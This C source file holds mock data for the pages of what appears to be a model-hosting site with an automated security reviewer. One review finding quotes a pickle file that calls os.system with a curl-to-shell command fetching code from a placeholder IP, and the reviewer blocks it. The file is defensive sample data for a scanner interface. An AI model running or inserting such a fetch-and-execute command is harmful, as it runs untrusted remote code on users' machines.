/* SPDX-License-Identifier: Apache-2.0 */
/* sample_data.c — the made-up parts that several pages share. */
#include "sample.h"

const int64_t sample_now_ms = INT64_C(1787659200000);
#define AGO(s) (sample_now_ms - INT64_C(1000) * (s))
#define SET(list, rows) (list).p = (rows), (list).n = ARRAY_LEN(rows)

struct frame sample_frame(enum lang lang, const char *theme, const char *title, const char *nav) {
    return (struct frame){.lang = i18n_tag(lang),
                          .theme = theme,
                          .nav = nav,
                          .title = str_of(i18n(lang, title)),
                          .self = STR("/"),
                          .signed_in = true,
                          .is_reviewer = true,
                          .user = STR("amy"),
                          .user_url = STR("/amy"),
                          .csrf = STR("c0ffee"),
                          .signin_url = STR("/sign-in"),
                          .base_url = STR("http://127.0.0.1:8620"),
                          .host = STR("127.0.0.1:8620"),
                          .version = STR("0.1.0")};
}

struct chip sample_chip(const char *verdict) {
    struct chip c = {
        .verdict = verdict, .word = verdict, .coverage = N_("full"), .url = STR("/amy/smollm2/review/main")};
    if (strcmp(verdict, "pending") == 0) c.coverage = NULL;
    if (strcmp(verdict, "notice") == 0) c.coverage = N_("partial");
    return c;
}

struct repo_rows sample_repos(void) {
    static struct repo_row rows[5];
    rows[0] = (struct repo_row){.full = STR("amy/smollm2"),
                                .url = STR("/amy/smollm2"),
                                .type = "model",
                                .licence = STR("apache-2.0"),
                                .task = STR("text-generation"),
                                .description =
                                    STR("SmolLM2-135M-Instruct as one GGUF file: small enough to answer on a laptop."),
                                .chip = sample_chip("pass"),
                                .updated_ms = AGO(200),
                                .downloads = 1284,
                                .bytes = 98600000};
    rows[1] = (struct repo_row){.full = STR("lab/court-decisions"),
                                .url = STR("/datasets/lab/court-decisions"),
                                .type = "dataset",
                                .licence = STR("cc-by-4.0"),
                                .description = STR("最高法院裁判文书摘要，共 12 万条，已脱敏。"),
                                .chip = sample_chip("notice"),
                                .updated_ms = AGO(86400 * 3),
                                .downloads = 91,
                                .bytes = 1840000000};
    rows[2] = (struct repo_row){.full = STR("mallory/totally-fine"),
                                .url = STR("/mallory/totally-fine"),
                                .type = "model",
                                .chip = sample_chip("block"),
                                .updated_ms = AGO(7200),
                                .bytes = 41822};
    rows[3] = (struct repo_row){.full = STR("amy/a-model-with-a-rather-long-name-that-has-to-wrap-somewhere"),
                                .url = STR("/amy/x"),
                                .type = "model",
                                .is_private = true,
                                .chip = sample_chip("pending"),
                                .updated_ms = AGO(20),
                                .bytes = 5300000000};
    rows[4] = (struct repo_row){.full = STR("lab/tokenizer-bench"),
                                .url = STR("/lab/tokenizer-bench"),
                                .type = "model",
                                .licence = STR("mit"),
                                .chip = sample_chip("review"),
                                .updated_ms = AGO(86400 * 200),
                                .downloads = 3,
                                .bytes = 880000};
    return (struct repo_rows){rows, ARRAY_LEN(rows)};
}

#define H(s) ((struct html){s, sizeof s - 1})
struct event_rows sample_events(void) {
    static const struct event_row rows[] = {
        {.seq = 412,
         .time_ms = INT64_C(1787659180000),
         .icon = "pass",
         .tone = "pass",
         .kind = STR("verdict.issued"),
         .url = STR("/activity/412"),
         .sentence = H("The automaton passed <a href=\"/amy/smollm2\">amy/smollm2</a> at <code>9f2c1a77</code>")},
        {.seq = 411,
         .time_ms = INT64_C(1787659000000),
         .icon = "push",
         .tone = "",
         .kind = STR("revision.pushed"),
         .url = STR("/activity/411"),
         .sentence = H("amy pushed 3 files to <a href=\"/amy/smollm2\">amy/smollm2</a>")},
        {.seq = 398,
         .time_ms = INT64_C(1787652000000),
         .icon = "block",
         .tone = "block",
         .kind = STR("verdict.issued"),
         .url = STR("/activity/398"),
         .sentence = H("The automaton blocked <a href=\"/mallory/totally-fine\">mallory/totally-fine</a>: calls "
                       "os.system while loading")},
        {.seq = 377,
         .time_ms = INT64_C(1787600000000),
         .icon = "run",
         .tone = "",
         .kind = STR("deployment.state"),
         .url = STR("/activity/377"),
         .sentence = H("Deployment <a href=\"/deployments/1\">smollm2</a> is ready")},
        {.seq = 1,
         .time_ms = INT64_C(1780000000000),
         .icon = "repo",
         .tone = "",
         .kind = STR("repo.created"),
         .url = STR("/activity/1"),
         .sentence = H("amy created <a href=\"/amy/smollm2\">amy/smollm2</a>")},
    };
    return (struct event_rows){rows, ARRAY_LEN(rows)};
}

struct repo_head sample_repo(const char *tab) {
    static const struct link branches[] = {{.text = STR("main"), .url = STR("/amy/smollm2"), .current = true},
                                           {.text = STR("dev"), .url = STR("/amy/smollm2?rev=dev")}};
    static const struct link tags[] = {{.text = STR("v1.0"), .url = STR("/amy/smollm2?rev=v1.0")}};
    static const struct word formats[] = {{STR("gguf")}, {STR("markdown")}, {STR("json")}};
    static const struct link deployments[] = {
        {.text = STR("smollm2"), .url = STR("/deployments/1"), .note = STR("1 / 1")}};
    struct repo_head r = {.type = "model",
                          .type_many = N_("Models"),
                          .owner = STR("amy"),
                          .name = STR("smollm2"),
                          .full = STR("amy/smollm2"),
                          .url = STR("/amy/smollm2"),
                          .owner_url = STR("/amy"),
                          .list_url = STR("/explore?type=model"),
                          .can_write = true,
                          .can_admin = true,
                          .is_model = true,
                          .tab = tab,
                          .rev = STR("main"),
                          .commit = STR("9f2c1a7745d0aa6b1c9e0f7b3c2d4e5f60718293"),
                          .card_url = STR("/amy/smollm2"),
                          .files_url = STR("/amy/smollm2/tree/main"),
                          .history_url = STR("/amy/smollm2/commits/main"),
                          .review_url = STR("/amy/smollm2/review/main"),
                          .use_url = STR("/amy/smollm2/use/main"),
                          .settings_url = STR("/amy/smollm2/settings"),
                          .deploy_url = STR("/deployments/new?repo=amy%2Fsmollm2"),
                          .chip = sample_chip("pass"),
                          .licence = STR("apache-2.0"),
                          .base_model = STR("HuggingFaceTB/SmolLM2-135M"),
                          .task = STR("text-generation"),
                          .bytes = 98614205,
                          .n_files = 6,
                          .downloads = 1284,
                          .updated_ms = AGO(200),
                          .can_deploy = true};
    SET(r.branches, branches);
    SET(r.tags, tags);
    SET(r.formats, formats);
    SET(r.deployments, deployments);
    return r;
}

void sample_review(struct view_review *v) {
    static struct finding_row findings[2];
    findings[0] = (struct finding_row){
        .severity = {.verdict = "block", .word = "block"},
        .rule = STR("pickle.call.exec"),
        .message = STR("Loading this file calls os.system with the argument “curl http://203.0.113.9/x | sh”."),
        .where = STR("archive/data.pkl @ 0x1f3")};
    findings[1] = (struct finding_row){.severity = {.verdict = "notice", .word = "notice"},
                                       .rule = STR("text.url.raw-ip"),
                                       .message = STR("Names a network address that is not a host name."),
                                       .where = STR("archive/data.pkl @ 0x20c")};
    static struct review_row files[4];
    files[0] = (struct review_row){.path = STR("pytorch_model.bin"),
                                   .url = STR("/mallory/totally-fine/blob/main/pytorch_model.bin"),
                                   .override_url = STR("/mallory/totally-fine/review/main"),
                                   .oid = STR("5d41402abc4b2a76b9719d911017c592aabbccddeeff00112233445566778899"),
                                   .format = STR("torch zip"),
                                   .chip = sample_chip("block"),
                                   .can_override = true,
                                   .bytes = 41822};
    SET(files[0].findings, findings);
    files[1] = (struct review_row){.path = STR("weights/model-00001-of-00002.safetensors"),
                                   .url = STR("/x"),
                                   .override_url = STR("/x"),
                                   .oid = STR("aa41402abc4b2a76b9719d911017c592aabbccddeeff00112233445566778899"),
                                   .format = STR("safetensors"),
                                   .chip = sample_chip("pass"),
                                   .bytes = 988097824};
    files[2] = (struct review_row){.path = STR("README.md"),
                                   .url = STR("/x"),
                                   .override_url = STR("/x"),
                                   .oid = STR("bb41402abc4b2a76b9719d911017c592aabbccdd"),
                                   .format = STR("markdown"),
                                   .chip = sample_chip("pass"),
                                   .bytes = 2204};
    files[3] = (struct review_row){.path = STR("extra.bin"),
                                   .url = STR("/x"),
                                   .override_url = STR("/x"),
                                   .oid = STR("cc41402abc4b2a76b9719d911017c592aabbccdd"),
                                   .format = STR(""),
                                   .chip = sample_chip("pending"),
                                   .bytes = 991};
    for (size_t i = 0; i < ARRAY_LEN(files); i++) files[i].chip.url = STR_NULL;
    SET(v->files, files);
    v->decided = true;
    v->sentence = N_("This revision is blocked: nobody can download the files named below.");
    v->r.reason = STR("pytorch_model.bin: calls os.system while loading");
    v->policy = STR("ballast-1");
    v->rule_pack = STR("sha256:91b0a3f5c2d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6071");
    v->responsible = STR("lab");
    v->signature = STR("MEUCIQDk3vQ0mT1x8lq2b7Q3uZ0yVq4Z4l3C2mW9n1p5r6s7t8u9v0w1x2y3z4A5B6C7D8E9F0G1H2I3J4K5L6M7==");
    v->key_id = STR("ed25519:6b1f2a90");
    v->statement = STR("{\"repo\":\"mallory/"
                       "totally-fine\",\"commit\":\"9f2c1a7745d0aa6b1c9e0f7b3c2d4e5f60718293\",\"verdict\":\"block\"}");
    v->verify_cmd = STR("hf download mallory/totally-fine --local-dir m\nballast review m");
    v->time_ms = AGO(7200);
    v->n_files = 4, v->n_block = 1, v->n_pass = 2, v->n_pending = 1;
}
